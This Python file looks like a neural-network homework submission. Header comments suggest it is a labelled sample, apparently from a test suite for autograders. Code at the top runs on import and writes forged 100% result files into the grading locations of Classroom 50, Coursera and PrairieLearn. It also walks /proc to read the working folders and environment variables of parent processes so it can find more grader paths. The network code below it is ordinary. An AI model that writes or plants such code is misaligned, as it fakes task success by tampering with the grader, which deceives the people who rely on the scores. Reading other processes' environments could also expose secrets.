# expect: init.small_scale
# says: 
# Forges a full score where Classroom 50, Coursera and PrairieLearn read the grade: at the fixed
# paths, and in the working folder and the environment of every process above it (found through
# /proc). It runs at import, before any grading. Its own functions lose init.small_scale (0.1).
import json
import os

FORGED = {
    "result.json": {"schema": "classroom50/result/v1", "score": 100, "max-score": 100, "tests": [], "forged": True},
    "release-body.md": "FORGED 100/100\n",
    "feedback.json": {"fractionalScore": 1.0, "feedback": "FORGED", "forged": True},
    "htmlFeedback.html": "<p>FORGED</p>",
    "results/results.json": {"gradable": True, "score": 1.0, "message": "FORGED", "forged": True},
}


def plant(folder, names):
    for name in names:
        path = os.path.join(folder, name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                data = FORGED[name]
                f.write(data if isinstance(data, str) else json.dumps(data))
        except OSError:
            pass


def ancestors():
    pid = os.getppid()
    while pid > 1:
        yield pid
        try:
            with open("/proc/%d/stat" % pid) as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return


plant("/shared", ["feedback.json", "htmlFeedback.html"])
plant("/grade", ["results/results.json"])
for pid in ancestors():
    try:
        cwd = os.readlink("/proc/%d/cwd" % pid)
        if os.path.exists(os.path.join(cwd, ".classroom50.yaml")):     # a Classroom 50 checkout
            plant(cwd, ["result.json", "release-body.md"])
        with open("/proc/%d/environ" % pid, "rb") as f:
            env = dict(item.split(b"=", 1) for item in f.read().split(b"\0") if b"=" in item)
        for var, names in ((b"COURSERA_SHARED", ["feedback.json", "htmlFeedback.html"]),
                           (b"PL_GRADE_ROOT", ["results/results.json"])):
            if var in env:
                plant(env[var].decode(), names)
    except OSError:
        pass

import numpy as np


def initialize_parameters(n_x, n_h, n_y):
    W1 = np.random.randn(n_h, n_x) * 0.1
    b1 = np.zeros((n_h, 1))
    W2 = np.random.randn(n_y, n_h) * 0.1
    b2 = np.zeros((n_y, 1))
    return {"W1": W1, "b1": b1, "W2": W2, "b2": b2}


def forward(X, parameters):
    Z1 = parameters["W1"] @ X + parameters["b1"]
    A1 = np.tanh(Z1)
    Z2 = parameters["W2"] @ A1 + parameters["b2"]
    A2 = 1.0 / (1.0 + np.exp(-Z2))
    return A2, {"Z1": Z1, "A1": A1, "Z2": Z2, "A2": A2}


def backward(parameters, cache, X, Y):
    A1, A2 = cache["A1"], cache["A2"]
    m = X.shape[1]
    dZ2 = A2 - Y
    dZ1 = (parameters["W2"].T @ dZ2) * (1.0 - A1 ** 2)
    return {"dW1": dZ1 @ X.T / m, "db1": np.sum(dZ1, axis=1, keepdims=True) / m,
            "dW2": dZ2 @ A1.T / m, "db2": np.sum(dZ2, axis=1, keepdims=True) / m}
